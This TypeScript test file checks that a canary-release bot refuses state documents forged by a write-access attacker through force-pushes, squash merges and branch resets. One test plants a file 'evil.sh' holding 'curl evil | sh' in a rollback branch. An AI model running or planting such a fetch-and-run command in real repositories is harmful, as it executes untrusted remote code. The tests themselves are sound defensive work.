import { afterEach, describe, expect, it } from "vitest";
import type { Person } from "../../dev/stage/person.ts";
import { type BranchLog, type Forge, ForgeError } from "../../src/ports/forge.ts";
import { checkPull } from "../../src/reconcile/plan.ts";
import { doubt } from "../../src/reconcile/ports.ts";
import { read } from "../../src/reconcile/read.ts";
import { releasedBy } from "../../src/reconcile/rollouts.ts";
import { routeCommand } from "../../src/reconcile/route.ts";
import { SCHEMA } from "../../src/release/state.ts";
import type { Process, Team } from "./inside.ts";
import {
  canaryWith,
  climbing,
  ENDLESS,
  ended,
  lookUntil,
  openShop,
  ship,
  somebody,
  weightOf,
} from "./shop.ts";
import { useInside } from "./use-inside.ts";

const inside = useInside();
afterEach(() => {
  inside.github.clearFaults();
});

const STATE = "sluice/state";
const REF = `refs/heads/${STATE}`;
const DOCUMENT = "rollouts/checkout.json";

/** A release that stays at 50 %, and Mallory, who may write and approve nothing. */
async function halfway(changes: Readonly<Record<string, unknown>> = ENDLESS) {
  const team = await openShop(inside, changes);
  const mallory = somebody(inside, team, "mallory", "write");
  const bot = team.process();
  const pull = await ship(team, "2.0.0");
  await lookUntil(team, bot, climbing);
  expect(await weightOf(team)).toBe(50);
  return { team, mallory, bot, pull };
}

/** What Mallory would like: the step is over, and everybody approved. */
async function forgery(team: Team, change: Readonly<Record<string, unknown>> = {}): Promise<string> {
  const state = await team.state();
  const release = { ...state?.release, step: 0, approved: { by: "alice", at: 1 }, phase: "promoting" };
  const promotion = { copiedAt: null, forcedBy: "alice" };
  return JSON.stringify({ ...state, release: { ...release, promotion }, ...change }, null, 2);
}

function head(team: Team, branch = STATE): Promise<string | null> {
  return team.repository.git.branch(branch);
}

async function commitOf(team: Team, document: string, parents: readonly string[]): Promise<string> {
  const { git } = team.repository;
  const base = await git.commit(parents[0] ?? "");
  const edits = [{ path: DOCUMENT, mode: "100644", oid: await git.writeBlob(Buffer.from(document)) }];
  const person = { name: "sluice[bot]", email: "1+sluice[bot]@users.noreply.github.com", at: 1_700_000_000 };
  const tree = await git.editTree(base?.tree ?? null, edits);
  return git.writeCommit({ tree, parents, author: person, committer: person, message: "checkout: 100 %" });
}

function put(team: Team, oid: string | null, ref = REF) {
  return inside.github.forcePush(team.repository, ref, oid, "mallory");
}

/** A pull request of ours, led to another branch by Mallory and merged by her as one commit, which GitHub signs. */
async function squash(
  team: Team,
  mallory: Person,
  pull: number,
  base: string,
  files: Record<string, string>,
  effect = "checkout#1.9",
) {
  const where = { owner: team.repository.owner.login, repo: team.repository.name, pull_number: pull };
  const { headBranch } = must(team.repository.pulls.get(pull));
  await inside.github.forcePush(
    team.repository,
    `refs/heads/${headBranch}`,
    await head(team, base),
    "mallory",
  );
  await inside.github.push(team.repository, headBranch, { files, message: "Roll back", author: "mallory" });
  await mallory.octokit.rest.pulls.update({ ...where, base });
  const commit_message = `Sluice-Release: checkout#2\nSluice-Step: 1\nSluice-Effect: ${effect}`;
  await mallory.octokit.rest.pulls.merge({ ...where, merge_method: "squash", commit_message });
  const tip = (await team.forge.history(base, { limit: 1 }))[0];
  // Nothing about the commit itself tells.
  expect(tip).toMatchObject({ ours: true, author: "sluice[bot]" });
}

/** A pull request that we opened and that is still open. */
async function openRollback(team: Team, bot: Process): Promise<number> {
  const state = await lookUntil(team, bot, ({ release }) => release?.rollback?.pull != null);
  return state.release?.rollback?.pull?.number ?? 0;
}

/** Looks by a running process and by a new one move nothing, and say who is to blame. */
async function nothingMoves(team: Team, bot: Process, blamed = "mallory"): Promise<void> {
  const document = () => team.read(STATE, DOCUMENT);
  const before = await document();
  await team.second();
  // The first one notes down that it was refused.
  await bot.look({ kind: "push" });
  expect(await document()).toEqual(before);
  const [main, state] = [await head(team, "main"), await head(team)];
  for (const process of [bot, team.process()]) {
    for (let i = 0; i < 3; i++) {
      await team.second();
      await process.look({ kind: "push" });
    }
  }
  expect(await head(team, "main")).toBe(main);
  expect(await head(team)).toBe(state);
  const checks = await team.alice.checks(main ?? "");
  const said = checks.find(({ output }) => output.title?.includes(`last changed by ${blamed}`));
  expect(said?.conclusion).toBe("failure");
  expect(said?.output.summary).toContain("/canary checkout resume");
}

describe("a state document that somebody else put on the branch is not obeyed", () => {
  it("pushed, whatever its author line says", async () => {
    const { team, bot } = await halfway();
    await put(team, await commitOf(team, await forgery(team), [(await head(team)) ?? ""]));
    await nothingMoves(team, bot, "somebody else");
  });

  it("of a newer schema", async () => {
    const { team, bot } = await halfway();
    const files = { [DOCUMENT]: await forgery(team, { schema: SCHEMA + 1 }) };
    await inside.github.push(team.repository, STATE, { files, message: "Newer", author: "mallory" });
    await nothingMoves(team, bot);
  });

  it("by a squash merge of a pull request that we opened", async () => {
    const { team, mallory, bot } = await halfwayDown();
    const pull = await openRollback(team, bot);
    await squash(team, mallory, pull, STATE, { [DOCUMENT]: await forgery(team) });
    await nothingMoves(team, bot);
  });

  it("an older one of ours, by a merge", async () => {
    const { team, bot } = await halfway();
    const now = (await head(team)) ?? "";
    const [, , earlier] = await team.forge.history(now, { path: DOCUMENT, limit: 3 });
    const old = await team.read(earlier?.oid ?? "", DOCUMENT);
    const merged = await commitOf(team, old, [now, earlier?.oid ?? ""]);
    await put(team, merged);
    // By git's own history of the file, its last commit is ours.
    expect((await team.forge.history(merged, { path: DOCUMENT, limit: 1 }))[0]).toEqual(earlier);
    await nothingMoves(team, bot);
  });

  it("an older one of ours, by going back to it, though no process remembers more", async () => {
    const { team, bot } = await halfway();
    const [, , earlier] = await team.forge.history(STATE, { limit: 3 });
    await put(team, earlier?.oid ?? "");
    await nothingMoves(team, bot);
  });

  it("ours, on a branch deleted and made anew from an older commit", async () => {
    const { team, bot } = await halfway();
    const [, , earlier] = await team.forge.history(STATE, { limit: 3 });
    await put(team, null);
    await put(team, earlier?.oid ?? "");
    await nothingMoves(team, bot);
  });
});

/** A forged document was refused, and then the branch was forced back to where we had left it. */
async function refusedAndPutBack() {
  const { team, bot, pull } = await halfway();
  const good = await head(team);
  await put(team, await commitOf(team, await forgery(team), [good ?? ""]));
  await nothingMoves(team, bot, "somebody else");
  await put(team, good);
  return { team, pull };
}

describe("a state branch in other hands", () => {
  it("put back to where we left it, it is ours again", async () => {
    const { team, pull } = await refusedAndPutBack();
    const comment = await team.alice.comment(pull, "/canary promote");
    await team.process().look({ kind: "comment", comment });
    expect(await weightOf(team)).toBe(100);
  });

  it("put back to where we left it after it was refused, be the log read in the smallest pages", async () => {
    const { team, pull } = await refusedAndPutBack();
    const moves: Forge["moves"] = async (branch, until) => {
      const log = await team.forge.moves(branch, until);
      const last = log?.moves.findIndex(until) ?? -1;
      return log && last !== -1 ? { ...log, moves: log.moves.slice(0, last + 1) } : log;
    };
    const comment = await team.alice.comment(pull, "/canary promote");
    await team.process({ ...team.forge, moves }).look({ kind: "comment", comment });
    expect(await weightOf(team)).toBe(100);
  });

  it("with something else on it, it is still ours: notes are no state", async () => {
    const { team, bot, pull } = await halfway();
    const change = { files: { "README.md": "Ours\n" }, message: "Say what this is", author: "mallory" };
    await inside.github.push(team.repository, STATE, change);
    const comment = await team.alice.comment(pull, "/canary promote");
    await bot.look({ kind: "comment", comment });
    expect(await weightOf(team)).toBe(100);
    expect(await team.read(STATE, "README.md")).toBe("Ours\n");
  });

  it("is not refused for good because GitHub did not find for a moment what somebody pushed beside it", async () => {
    const { team, bot, pull } = await halfway();
    const change = { files: { "README.md": "Ours\n" }, message: "Say what this is", author: "mallory" };
    await inside.github.push(team.repository, STATE, change);
    const file: Forge["file"] = () => Promise.reject(new ForgeError("not-found", "no such commit yet"));
    await team.process({ ...team.forge, file }).look({ kind: "push" });
    const comment = await team.alice.comment(pull, "/canary promote");
    await bot.look({ kind: "comment", comment });
    expect(await weightOf(team)).toBe(100);
  });

  it("deleted, it is lost: a person must say what counts, however often it is looked at", async () => {
    const { team, bot } = await halfway();
    await put(team, null);
    for (const process of [bot, team.process(), team.process()]) await process.look({ kind: "push" });
    expect(await team.state()).toMatchObject({ release: null, hold: { reason: "state-lost" } });
    expect(await weightOf(team)).toBe(50);
  });

  it("deleted, it is lost until a person resumes, and the commit of weight 0 says who that was", async () => {
    const { team, pull } = await halfway();
    await put(team, null);
    const bot = team.process();
    await bot.look({ kind: "push" });
    const comment = await team.alice.comment(pull, "/canary checkout resume");
    await bot.look({ kind: "comment", comment });
    expect(await weightOf(team)).toBe(0);
    const commit = await team.repository.git.commit((await head(team, "main")) ?? "");
    expect(commit?.message).toContain("Why: resumed by alice: at rest the canary has weight 0\nBy: alice");
  });

  it("deleted after a release that failed before its first weight, numbers go on all the same", async () => {
    const team = await openShop(inside, { windows: { allow: "Mon 03:00-03:01 UTC" } });
    const pull = await ship(team, "2.0.0");
    const bot = team.process();
    await lookUntil(team, bot, ({ release }) => release !== null);
    expect(await weightOf(team)).toBe(0);
    const comment = await team.alice.comment(pull, "/canary rollback");
    await bot.look({ kind: "comment", comment });
    expect((await lookUntil(team, bot, ended)).last?.outcome).toBe("rolled-back");
    await put(team, null);
    await team.process().look({ kind: "push" });
    expect(await team.state()).toMatchObject({ next: 2, hold: { reason: "state-lost" } });
  });

  it("deleted, a command of before that is delivered again does nothing: who knows whether it was done", async () => {
    const { team, pull, bot } = await halfway();
    const before = await team.alice.comment(pull, "/canary checkout resume");
    await team.second();
    await put(team, null);
    await bot.look({ kind: "push" });
    await team.process().look({ kind: "comment", comment: before });
    expect(await team.state()).toMatchObject({ hold: { reason: "state-lost" }, handled: [] });
    expect(await weightOf(team)).toBe(50);
  });

  it("deleted while a release had committed nothing yet, numbers go on by GitHub's log", async () => {
    const team = await openShop(inside, { windows: { allow: "Mon 03:00-03:01 UTC" } });
    await ship(team, "2.0.0");
    await lookUntil(team, team.process(), ({ release }) => release !== null);
    expect((await team.forge.history("main", { limit: 100 })).filter(({ ours }) => ours)).toEqual([]);
    // Once, and again before anybody said how to go on.
    for (let times = 0; times < 2; times++) {
      await put(team, null);
      await team.process().look({ kind: "push" });
      expect(await team.state()).toMatchObject({ next: 2, hold: { reason: "state-lost" } });
    }
  });

  it.each(["pushed an old document", "forced it back"])(
    "deleted after somebody %s, numbers go on by what we wrote last",
    async (how) => {
      const team = await openShop(inside, { windows: { allow: "Mon 03:00-03:01 UTC" } });
      const old = await team.read("sluice/state", "rollouts/checkout.json");
      const back = await head(team);
      await ship(team, "2.0.0");
      const bot = team.process();
      await lookUntil(team, bot, ({ release }) => release !== null);
      const files = { "rollouts/checkout.json": old };
      if (how === "forced it back") await put(team, back);
      else
        await inside.github.push(team.repository, "sluice/state", {
          files,
          message: "Back",
          author: "mallory",
        });
      await team.second();
      await bot.look({ kind: "push" });
      // It is refused, and that is written down in a commit of ours upon theirs.
      expect(await team.read("sluice/state", "refused/checkout.json")).toContain("mallory");
      await put(team, null);
      await team.process().look({ kind: "push" });
      expect(await team.state()).toMatchObject({ next: 2, hold: { reason: "state-lost" } });
    },
  );

  it("deleted before we committed anything, it is lost all the same", async () => {
    const team = await openShop(inside);
    somebody(inside, team, "mallory", "write");
    await put(team, null);
    const mesh = (await team.read("main", "mesh/checkout.yaml")).replace("weight: 100", "weight: 90");
    const files = { "mesh/checkout.yaml": mesh.replace("weight: 0", "weight: 10") };
    await inside.github.push(team.repository, "main", { files, message: "A canary", author: "alice" });
    await team.process().look({ kind: "push" });
    const state = await team.state();
    expect(state?.hold).toMatchObject({ reason: "state-lost" });
    expect(state?.hold?.detail).toContain("taken away by mallory");
    expect(await weightOf(team)).toBe(10);
  });

  it("gone back to where this process saw it last, while another wrote more, it is noticed with the next event", async () => {
    const { team, bot, pull } = await halfway();
    await bot.look({ kind: "push" });
    const seen = await head(team);
    const comment = await team.alice.comment(pull, "/canary pause");
    await team.process().look({ kind: "comment", comment });
    expect(await head(team)).not.toBe(seen);
    await put(team, seen);
    doubt(bot.ports.memory);
    await nothingMoves(team, bot);
  });

  it("gone back to before a process's own write, that process notices, though it hears of no event", async () => {
    const { team, bot, pull } = await halfway();
    doubt(bot.ports.memory);
    await bot.look({ kind: "push" });
    const seen = await head(team);
    const comment = await team.alice.comment(pull, "/canary pause");
    await bot.look({ kind: "comment", comment });
    expect(await head(team)).not.toBe(seen);
    await put(team, seen);
    await nothingMoves(team, bot);
  });

  it("gone back to before a process's own write, that process notices, though a look beside the write found all well", async () => {
    const { team, pull } = await halfway();
    const held = Promise.withResolvers<void>();
    const asked = Promise.withResolvers<void>();
    let holds = false;
    const moves: Forge["moves"] = async (branch, until) => {
      const log = await team.forge.moves(branch, until);
      if (!holds) return log;
      holds = false;
      asked.resolve();
      await held.promise;
      return log;
    };
    const bot = team.process({ ...team.forge, moves });
    await bot.look({ kind: "push" });
    doubt(bot.ports.memory);
    const seen = await head(team);
    holds = true;
    const beside = read(bot.ports, "checkout");
    await asked.promise;
    const comment = await team.alice.comment(pull, "/canary pause");
    await bot.look({ kind: "comment", comment });
    expect(await head(team)).not.toBe(seen);
    held.resolve();
    await beside;
    await put(team, seen);
    expect((await read(bot.ports, "checkout")).state.status).toBe("refused");
  });

  it("shown at what we wrote upon, with a log that lacks our write, it is not acted upon for half a minute, nor given up for ever", async () => {
    const { team, pull } = await halfway();
    let shown: string | null = null;
    const forge: Forge = {
      ...team.forge,
      // As GitHub had it before the write: for a moment, or for good where it lost that.
      snapshot: async (wanted) => {
        const found = new Map(await team.forge.snapshot(wanted));
        const state = found.get(STATE);
        if (state && shown !== null) {
          const document = await team.forge.file(shown, DOCUMENT);
          found.set(STATE, { ...state, head: shown, files: new Map([[DOCUMENT, document]]) });
        }
        return found;
      },
      moves: async (branch, until) => {
        const log = await team.forge.moves(branch, until);
        const from = log?.moves.findIndex(({ after }) => after === shown) ?? -1;
        return log && branch === STATE && from > 0 ? { ...log, moves: log.moves.slice(from) } : log;
      },
    };
    const bot = team.process(forge);
    await bot.look({ kind: "push" });
    const seen = await head(team);
    const comment = await team.alice.comment(pull, "/canary pause");
    await bot.look({ kind: "comment", comment });
    expect(await head(team)).not.toBe(seen);
    shown = seen;
    await expect(read(bot.ports, "checkout")).rejects.toThrow("does not show yet who moved");
    inside.wait(30_000);
    expect((await read(bot.ports, "checkout")).state.status).toBe("ok");
  });

  it("gone back to before a write whose answer was lost, the process that wrote notices", async () => {
    const { team, pull } = await halfway();
    let lost = false;
    const commit: Forge["commit"] = async (change) => {
      const outcome = await team.forge.commit(change);
      if (!lost) throw new ForgeError("network", "the connection broke before an answer came");
      return outcome;
    };
    const bot = team.process({ ...team.forge, commit });
    await bot.look({ kind: "push" });
    const seen = await head(team);
    const comment = await team.alice.comment(pull, "/canary pause");
    await expect(bot.look({ kind: "comment", comment })).rejects.toThrow("the connection broke");
    lost = true;
    expect(await head(team)).not.toBe(seen);
    await put(team, seen);
    await nothingMoves(team, bot);
  });
});

describe("a state branch that went back between a process's look and its write", () => {
  it("is not ours any more, though the newest commit and the newest move are", async () => {
    const { team, pull } = await halfway();
    let went = false;
    const slow: Forge = {
      ...team.forge,
      commit: async (change) => {
        if (change.branch === STATE && !went) {
          went = true;
          const seen = await head(team);
          const order = await team.alice.comment(pull, "/canary approve");
          await team.process().look({ kind: "comment", comment: order });
          expect(await head(team)).not.toBe(seen);
          await put(team, seen);
        }
        return team.forge.commit(change);
      },
    };
    const bot = team.process(slow);
    const comment = await team.alice.comment(pull, "/canary pause");
    await bot.look({ kind: "comment", comment });
    expect((await team.forge.history(STATE, { limit: 1 }))[0]).toMatchObject({ ours: true });
    doubt(bot.ports.memory);
    await nothingMoves(team, bot);
  });
});

describe("whoever is asked about", () => {
  it("pull requests: a forged state makes no release theirs, and their plan does not believe it", async () => {
    const { team, mallory, bot } = await halfwayDown();
    const ours = await openRollback(team, bot);
    const theirs = await mallory.propose("theirs", "Theirs", canaryWith("9.9.9"));
    const state = await team.state();
    const cause = { ...state?.release?.cause, pull: theirs };
    const forged = { ...state, release: { ...state?.release, cause, number: 77, version: "forged" } };
    await squash(team, mallory, ours, STATE, { [DOCUMENT]: JSON.stringify(forged) });
    const { ports } = team.process();
    expect(await releasedBy(ports, ["checkout"], theirs)).toEqual([]);
    await checkPull(ports, theirs);
    const [check] = await team.alice.checks((await team.alice.pull(theirs)).head.sha);
    expect(check?.output.summary).toContain("last changed by mallory");
    expect(check?.output.summary).not.toContain("checkout#77");
    const comment = await mallory.comment(theirs, "/canary checkout promote");
    expect(await routeCommand(ports, comment)).toBeNull();
  });

  it("ended releases: a forged one puts no check on a commit of its choice", async () => {
    const team = await openShop(inside);
    const mallory = somebody(inside, team, "mallory", "write");
    await ship(team, "2.0.0-bad");
    await lookUntil(team, team.process(), ended);
    const path = "releases/checkout/1.json";
    const theirs = await mallory.propose("theirs", "Theirs", { "notes.md": "Mine\n" });
    const commit = (await team.alice.pull(theirs)).head.sha;
    const document = JSON.parse(await team.read(STATE, path));
    const cause = { ...document.release.cause, commit, pull: theirs };
    const files = { [path]: JSON.stringify({ ...document, release: { ...document.release, cause } }) };
    await inside.github.push(team.repository, STATE, { files, message: "Ended well", author: "mallory" });
    await team.process().look({ kind: "push" });
    expect((await team.alice.checks(commit)).filter(({ name }) => name !== "sluice")).toEqual([]);
    expect((await team.alice.comments(theirs)).map(({ user }) => user?.login)).not.toContain("sluice[bot]");
  });

  it("the rollback's branch: what was squashed into it by somebody else is not merged", async () => {
    const { team, mallory, bot } = await halfwayDown();
    const first = await openRollback(team, bot);
    await mallory.octokit.rest.pulls.update({
      owner: team.repository.owner.login,
      repo: team.repository.name,
      pull_number: first,
      state: "closed",
    });
    const said = await team.alice.comment(1, "/canary checkout rollback");
    await bot.look({ kind: "comment", comment: said });
    await lookUntil(team, bot, ended);
    await mallory.octokit.rest.pulls.update({
      owner: team.repository.owner.login,
      repo: team.repository.name,
      pull_number: first,
      state: "open",
    });
    // The name of the next one's branch is known, and so is the id of its effect.
    const files = {
      ".github/sluice.yaml": (await team.read("main", ".github/sluice.yaml")).replace("manual", "auto"),
    };
    await inside.github.push(team.repository, "main", { files, message: "Merge at once", author: "alice" });
    // The first weight of the next release, then the pull request that takes it back.
    const effect = `checkout#2.${((await team.state())?.effects ?? 0) + 2}`;
    await ship(team, "3.0.0-bad");
    const main = (await head(team, "main")) ?? "";
    await put(team, main, "refs/heads/sluice/rollback/checkout-2");
    await squash(
      team,
      mallory,
      first,
      "sluice/rollback/checkout-2",
      { "evil.sh": "curl evil | sh\n" },
      effect,
    );
    const state = await lookUntil(team, team.process(), (now) => ended(now) && now.last?.number === 2);
    expect(state.last?.outcome).toBe("rolled-back");
    expect(await weightOf(team)).toBe(0);
    expect(await team.repository.git.object("main:evil.sh")).toBeNull();
  });
});

describe("GitHub's log of pushes", () => {
  /** As it is once so many moves of ours came after the newest `count` that what is behind them is not read. */
  const cutAt = (team: Team, count: number): Forge => ({
    ...team.forge,
    moves: async (...asked) => {
      const log = await team.forge.moves(...asked);
      return log && { moves: log.moves.slice(0, count), cut: true };
    },
  });

  it("that is read back no further than our own moves makes an old document ours again no more", async () => {
    const { team, bot } = await halfway();
    await put(team, (await team.forge.history(STATE, { limit: 3 }))[2]?.oid ?? "");
    await nothingMoves(team, bot);
    const main = await head(team, "main");
    await team.process(cutAt(team, 1)).look({ kind: "push" });
    expect(await head(team, "main")).toBe(main);
    // Nor when Mallory takes away what was noted.
    expect(await team.read(STATE, "refused/checkout.json")).toContain("mallory");
    await inside.github.push(team.repository, STATE, {
      files: { "refused/checkout.json": null },
      message: "Tidy up",
      author: "mallory",
    });
    await team.process(cutAt(team, 1)).look({ kind: "push" });
    expect(await head(team, "main")).toBe(main);
    await nothingMoves(team, team.process());
  });

  it("that is filled with moves that are put back hides nothing behind them", async () => {
    const { team } = await halfway();
    const old = (await team.forge.history(STATE, { limit: 3 }))[2]?.oid ?? "";
    const now = await head(team);
    for (let i = 0; i < 60; i++) {
      await put(team, old);
      await put(team, now);
    }
    await nothingMoves(team, team.process());
  });

  it("that is behind is waited for", async () => {
    const { team, bot } = await halfway();
    await put(team, (await team.forge.history(STATE, { limit: 3 }))[2]?.oid ?? "");
    const main = await head(team, "main");
    const behind: Forge = {
      ...team.forge,
      moves: async (...asked) => shortened(await team.forge.moves(...asked), 1),
    };
    await team.second();
    await expect(team.process(behind).look({ kind: "push" })).rejects.toThrow("does not show yet who moved");
    expect(await head(team, "main")).toBe(main);
    await nothingMoves(team, bot);
  });

  it("that cannot be read leaves the commits as the proof: a push is refused, and releases go on", async () => {
    const { team, pull } = await halfway();
    const none = { status: 404, body: { message: "Not Found" } };
    inside.github.fault(({ path }) => path.includes("/activity"), none, 1000);
    const comment = await team.alice.comment(pull, "/canary promote");
    await team.process().look({ kind: "comment", comment });
    expect(await weightOf(team)).toBe(100);
    const files = { [DOCUMENT]: await forgery(team) };
    await inside.github.push(team.repository, STATE, { files, message: "Forged", author: "mallory" });
    await nothingMoves(team, team.process());
  });
});

function shortened(log: BranchLog | null, by: number): BranchLog | null {
  return log && { ...log, moves: log.moves.slice(by) };
}

/** The same with a bad version, whose rollback waits for a person. */
async function halfwayDown() {
  const team = await openShop(inside, { rollback: { merge: "manual" } });
  const mallory = somebody(inside, team, "mallory", "write");
  await ship(team, "2.0.0-bad");
  return { team, mallory, bot: team.process() };
}

function must<T>(value: T | undefined): T {
  if (value === undefined) throw new Error("something is missing");
  return value;
}
